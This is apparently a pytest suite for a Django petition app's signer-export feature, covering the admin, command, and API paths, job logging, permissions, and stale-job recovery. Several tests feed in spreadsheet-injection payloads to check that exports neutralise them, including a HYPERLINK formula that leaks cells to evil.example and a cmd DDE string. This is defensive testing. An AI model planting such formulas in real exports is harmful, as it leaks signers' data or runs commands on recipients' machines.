"""Exports of consenting signers: background jobs that log themselves and never truncate."""

import csv
import io
import os
import pwd
from datetime import timedelta

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.utils import timezone
from rest_framework.authtoken.models import Token

from petitions.models import SignerExport
from petitions.reporting.signer_exports import (
    signer_export_request,
    signer_export_run,
    signer_export_write,
)
from petitions.tasks import report_jobs_check_task, signer_export_enqueue
from tests.factories import (
    OrganizerFactory,
    PetitionFactory,
    SignatureFactory,
    UserFactory,
    verified_signature,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def petition():
    petition = PetitionFactory(slug="truth")
    verified_signature(
        petition=petition,
        name="Zoë Ağaoğlu",
        email="zoe@example.org",
        country="TR",
        city="İzmir",
        consent_to_updates=True,
    )
    verified_signature(
        petition=petition,
        name="Leyla Aliyeva",
        email="leyla@example.org",
        country="AZ",
        consent_to_updates=True,
    )
    verified_signature(petition=petition, email="no-consent@example.org", country="AZ")
    SignatureFactory(petition=petition, email="unverified@example.org", consent_to_updates=True)
    invalidated = verified_signature(
        petition=petition, email="invalidated@example.org", consent_to_updates=True
    )
    invalidated.invalidated_at = timezone.now()
    invalidated.save()
    verified_signature(email="other-petition@example.org", consent_to_updates=True)
    return petition


def read_csv(content):
    assert content.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(content.removeprefix("\ufeff"))))


@pytest.fixture
def exporter():
    return UserFactory(
        username="exporter", permissions=["petitions.view_petition", "petitions.export_signers"]
    )


def test_admin_export_lists_only_consenting_verified_signers_and_logs_itself(
    client, petition, exporter, django_capture_on_commit_callbacks
):
    client.force_login(exporter)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/admin/petitions/petition/{petition.pk}/signer-export/")
    assert response.status_code == 302
    export = SignerExport.objects.get()  # the task ran in-process once the request committed
    assert (export.petition, export.requested_by, export.channel) == (petition, exporter, "admin")
    assert export.status == SignerExport.Status.FINISHED
    assert export.row_count == 2
    assert export.finished_at >= export.created_at

    log = client.get("/admin/petitions/signerexport/")
    assert b"exporter" in log.content and b"Download CSV" in log.content
    download = client.get(f"/admin/petitions/signerexport/{export.pk}/download/")
    assert download["Content-Length"] == str(export.file.size)
    rows = read_csv(b"".join(download.streaming_content).decode("utf-8"))
    assert [(r["Name"], r["Email"], r["Country"], r["City"]) for r in rows] == [
        ("Zoë Ağaoğlu", "zoe@example.org", "Türkiye", "İzmir"),
        ("Leyla Aliyeva", "leyla@example.org", "Azerbaijan", ""),
    ]


def test_admin_action_exports_the_selected_petitions(
    client, petition, exporter, django_capture_on_commit_callbacks
):
    client.force_login(exporter)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            "/admin/petitions/petition/",
            {"action": "request_signer_export", "_selected_action": [petition.pk]},
        )
    assert SignerExport.objects.get().row_count == 2


def test_command_writes_the_same_file_and_logs_the_export(petition, tmp_path, exporter):
    output = tmp_path / "signers.csv"
    call_command(
        "export_signers",
        "truth",
        "--output",
        str(output),
        "--user",
        "exporter",
        stderr=io.StringIO(),
    )
    rows = read_csv(output.read_text(encoding="utf-8"))
    assert [r["Email"] for r in rows] == ["zoe@example.org", "leyla@example.org"]
    export = SignerExport.objects.get()
    assert (export.channel, export.requested_by, export.row_count, export.status) == (
        "command",
        exporter,
        2,
        "finished",
    )


def test_command_names_an_unknown_user(petition, tmp_path):
    with pytest.raises(CommandError, match="No user named: ghost"):
        call_command(
            "export_signers", "truth", "--output", str(tmp_path / "x.csv"), "--user", "ghost"
        )


def test_command_logs_the_export_under_no_user_where_the_system_user_has_no_name(
    petition, tmp_path, monkeypatch
):
    # A container's user without a passwd entry, and no LOGNAME, USER, LNAME or USERNAME.
    for variable in ("LOGNAME", "USER", "LNAME", "USERNAME"):
        monkeypatch.delenv(variable, raising=False)

    def no_passwd_entry(uid):
        raise KeyError(f"getpwuid(): uid not found: {uid}")

    monkeypatch.setattr(pwd, "getpwuid", no_passwd_entry)
    output = tmp_path / "signers.csv"
    call_command("export_signers", "truth", "--output", str(output), stderr=io.StringIO())
    assert len(read_csv(output.read_text(encoding="utf-8"))) == 2
    assert SignerExport.objects.get().requested_by is None


def test_only_those_with_the_permission_see_or_download_exports(
    client, petition, exporter, django_capture_on_commit_callbacks
):
    client.force_login(exporter)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/admin/petitions/petition/{petition.pk}/signer-export/")
    export = SignerExport.objects.get()
    assert client.get(f"/admin/petitions/signerexport/{export.pk}/download/").status_code == 200
    client.force_login(OrganizerFactory())
    assert client.get(f"/admin/petitions/signerexport/{export.pk}/download/").status_code == 403


def test_a_failed_export_is_logged_as_failed_and_offers_no_file(
    petition, exporter, settings, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = "/proc/no-such-directory"  # storage cannot write there
    with django_capture_on_commit_callbacks(execute=True):
        signer_export_enqueue(signer_export_request(petition=petition, requested_by=exporter))
    export = SignerExport.objects.get()
    assert export.status == SignerExport.Status.FAILED
    assert "No such file or directory" in export.error
    assert not export.file


def test_api_export_is_requested_polled_and_downloaded(
    client, petition, exporter, django_capture_on_commit_callbacks
):
    auth = {"HTTP_AUTHORIZATION": f"Token {Token.objects.create(user=exporter).key}"}
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/api/v1/petitions/truth/signer-exports/", **auth)
    assert response.status_code == 202
    export = client.get(f"/api/v1/signer-exports/{response.json()['id']}/", **auth).json()
    assert (export["petition"], export["requested_by"], export["status"], export["row_count"]) == (
        "truth",
        "exporter",
        "finished",
        2,
    )
    download = client.get(export["download_url"], **auth)
    content = b"".join(download.streaming_content)
    assert download["Content-Length"] == str(len(content))
    assert {"private", "no-store"} <= set(download["Cache-Control"].replace(" ", "").split(","))
    assert [r["Email"] for r in read_csv(content.decode())] == [
        "zoe@example.org",
        "leyla@example.org",
    ]
    assert SignerExport.objects.get().channel == "api"


def test_api_export_refuses_anonymous_and_organizers(client, petition):
    assert client.post("/api/v1/petitions/truth/signer-exports/").status_code == 401
    auth = {"HTTP_AUTHORIZATION": f"Token {Token.objects.create(user=OrganizerFactory()).key}"}
    assert client.post("/api/v1/petitions/truth/signer-exports/", **auth).status_code == 403
    assert not SignerExport.objects.exists()


def test_an_unfinished_export_cannot_be_downloaded_yet(client, petition, exporter):
    auth = {"HTTP_AUTHORIZATION": f"Token {Token.objects.create(user=exporter).key}"}
    export = signer_export_request(petition=petition, requested_by=exporter)  # not yet committed
    response = client.get(f"/api/v1/signer-exports/{export.pk}/download/", **auth)
    assert response.status_code == 409
    assert response.json()["status"] == "pending"


def test_an_export_whose_file_retention_deleted_is_gone_with_its_reason(client, petition, exporter):
    auth = {"HTTP_AUTHORIZATION": f"Token {Token.objects.create(user=exporter).key}"}
    export = signer_export_request(petition=petition, requested_by=exporter)
    signer_export_run(export_id=export.pk)
    export.refresh_from_db()
    # What retention leaves of it (services.retention): the log, without the file.
    export.file.delete(save=False)
    SignerExport.objects.filter(pk=export.pk).update(file="")

    detail = client.get(f"/api/v1/signer-exports/{export.pk}/", **auth).json()
    assert (detail["status"], detail["download_url"]) == ("finished", None)
    response = client.get(f"/api/v1/signer-exports/{export.pk}/download/", **auth)
    assert response.status_code == 410
    assert "file was deleted" in response.json()["detail"]


def test_an_interrupted_command_export_is_logged_as_failed(petition):
    class DiskFull(io.StringIO):
        def write(self, text):
            if "leyla" in text:
                raise OSError(28, "No space left on device")
            return super().write(text)

    with pytest.raises(OSError):
        signer_export_write(petition=petition, stream=DiskFull())
    export = SignerExport.objects.get()
    assert (export.status, export.row_count) == ("failed", None)
    assert "No space left" in export.error


def test_a_signers_text_is_never_taken_for_a_spreadsheet_formula(petition):
    # Opened in a spreadsheet, a formula in a name could send the other rows to its author.
    verified_signature(
        petition=petition,
        name='=HYPERLINK("https://evil.example/?"&B3,"Zoë")',
        email="=1+1@example.org",
        country="FR",
        city="@SUM(1)",
        consent_to_updates=True,
    )
    stream = io.StringIO()
    signer_export_write(petition=petition, stream=stream)
    row = read_csv(stream.getvalue())[-1]
    assert (row["Name"], row["Email"], row["City"]) == (
        '\'=HYPERLINK("https://evil.example/?"&B3,"Zoë")',
        "'=1+1@example.org",
        "'@SUM(1)",
    )


def test_a_country_named_like_a_formula_is_never_taken_for_one(
    petition, country_named_like_a_formula
):
    verified_signature(petition=petition, country="AZ", consent_to_updates=True)
    stream = io.StringIO()
    signer_export_write(petition=petition, stream=stream)
    row = read_csv(stream.getvalue())[-1]
    assert (row["Country code"], row["Country"]) == (
        "AZ",
        '\'=HYPERLINK("https://evil.example/";"Azerbaijan")',
    )


FORMULA_STARTS = ("=", "+", "-", "@")


def cells_as_spreadsheets_split_them(content):
    """Every cell of a CSV file as a spreadsheet shows it, whichever separator it splits on."""
    return [
        cell
        for separator in (",", ";", "\t")
        for row in csv.reader(io.StringIO(content.removeprefix("\ufeff")), delimiter=separator)
        for cell in row
    ]


def starts_a_formula(cell):
    # Spreadsheets may trim blanks and quotes before reading a cell.
    return cell.lstrip(' \t\r\n"').startswith(FORMULA_STARTS)


def test_no_cell_starts_a_formula_whichever_separator_the_spreadsheet_uses(petition):
    # European spreadsheets split on ";" by default, some on tabs: the CSV's quoting of a
    # name does not keep them from cutting the name into cells there.
    verified_signature(
        petition=petition,
        name="Marie;=1+1;",
        email="marie@example.org",
        country="FR",
        city="Lyon;=cmd|' /C calc'!A0;",
        consent_to_updates=True,
    )
    verified_signature(
        petition=petition,
        name='Jo\t+2+3;"-4+5"',
        email="jo@example.org",
        country="FR",
        city='Nice;  ""@SUM(1)',
        consent_to_updates=True,
    )
    stream = io.StringIO()
    signer_export_write(petition=petition, stream=stream)
    content = stream.getvalue()
    assert not [
        cell for cell in cells_as_spreadsheets_split_them(content) if starts_a_formula(cell)
    ]
    rows = read_csv(content)
    assert [(r["Name"], r["City"]) for r in rows[-2:]] == [
        ("Marie;'=1+1;", "Lyon;'=cmd|' /C calc'!A0;"),
        ("Jo\t'+2+3;'\"-4+5\"", 'Nice;\'  ""@SUM(1)'),
    ]
    # Every text field is quoted, so that a spreadsheet splitting on commas keeps it whole.
    assert content.splitlines()[-1].startswith('"Jo\t\'+2+3;\'""-4+5""","jo@example.org","FR"')


def test_an_export_stopped_mid_way_is_failed_with_the_reason_and_can_be_run_again(
    client, petition, exporter, django_capture_on_commit_callbacks
):
    # What a worker killed mid-export leaves: "running", and no progress for a long while.
    stopped_at = timezone.now() - timedelta(seconds=settings.PETITIONS_JOB_STALE_SECONDS + 1)
    export = SignerExport.objects.create(
        petition=petition, requested_by=exporter, channel="admin", status="running"
    )
    SignerExport.objects.filter(pk=export.pk).update(progress_at=stopped_at)
    report_jobs_check_task()  # what beat runs every minute
    export.refresh_from_db()
    assert export.status == "failed"
    assert export.error.startswith(f"Stopped: no progress since {stopped_at:%Y-%m-%d %H:%M:%S} UTC")

    client.force_login(exporter)
    assert b"Failed" in client.get("/admin/petitions/signerexport/").content
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/admin/petitions/signerexport/",
            {"action": "run_again", "_selected_action": [export.pk]},
        )
    assert response.status_code == 302
    again = SignerExport.objects.exclude(pk=export.pk).get()
    assert (again.petition, again.requested_by, again.status, again.row_count) == (
        petition,
        exporter,
        "finished",
        2,
    )


def test_an_export_making_progress_is_left_running(petition):
    export = SignerExport.objects.create(petition=petition, channel="admin", status="running")
    SignerExport.objects.filter(pk=export.pk).update(
        progress_at=timezone.now() - timedelta(seconds=settings.PETITIONS_JOB_STALE_SECONDS - 5)
    )
    report_jobs_check_task()
    export.refresh_from_db()
    assert (export.status, export.error) == ("running", "")


def test_an_export_whose_queueing_was_lost_is_queued_again(
    petition, exporter, django_capture_on_commit_callbacks
):
    # Requested while the broker was down: logged as pending, but no task was queued.
    export = signer_export_request(petition=petition, requested_by=exporter)
    report_jobs_check_task()
    export.refresh_from_db()
    assert export.status == "pending"  # not yet: its task may still be in the queue
    SignerExport.objects.filter(pk=export.pk).update(
        progress_at=timezone.now() - timedelta(seconds=settings.PETITIONS_JOB_STALE_SECONDS + 1)
    )
    report_jobs_check_task()
    export.refresh_from_db()
    assert (export.status, export.row_count) == ("finished", 2)


def test_the_command_records_progress_as_it_writes(petition, settings):
    settings.PETITIONS_JOB_STALE_SECONDS = 0  # progress on every row

    class Recording(io.StringIO):
        progress = []

        def write(self, text):
            self.progress.append(SignerExport.objects.get().progress_at)
            return super().write(text)

    signer_export_write(petition=petition, stream=Recording())
    assert len(set(Recording.progress)) > 2


def test_staff_delete_an_export_file_and_keep_its_log_entry(client, petition, exporter):
    export = signer_export_request(petition=petition, requested_by=None)
    signer_export_run(export_id=export.pk)
    export.refresh_from_db()
    path = export.file.path
    client.force_login(exporter)
    page = client.get("/admin/petitions/signerexport/").content.decode()
    assert 'value="delete_file"' in page

    response = client.post(
        "/admin/petitions/signerexport/",
        {"action": "delete_file", "_selected_action": [export.pk]},
        follow=True,
    )

    assert "The files were deleted; their log entries are kept." in response.content.decode()
    export.refresh_from_db()
    assert (export.file.name, export.row_count, export.status) == ("", 2, "finished")
    assert not os.path.exists(path)
